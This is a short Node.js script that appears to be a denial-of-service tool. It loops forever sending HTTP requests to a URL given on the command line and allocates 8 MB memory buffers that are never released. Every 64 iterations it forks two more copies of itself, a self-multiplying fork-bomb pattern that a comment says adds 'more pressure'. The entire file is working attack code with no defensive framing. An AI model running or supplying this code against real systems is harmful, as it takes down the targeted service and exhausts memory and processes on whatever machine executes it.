const { fork } = require('child_process');
const http = require('http');

const target = process.argv[2] || 'http://localhost:3000/';
const hold = [];

function hammer() {
  for (;;) {
    http.get(target, () => {}).on('error', () => {});
    hold.push(Buffer.alloc(8 * 1024 * 1024, 1));
    if (hold.length % 64 === 0) {
      // more workers = more pressure
      fork(__filename, [target]);
      fork(__filename, [target]);
    }
  }
}

hammer();
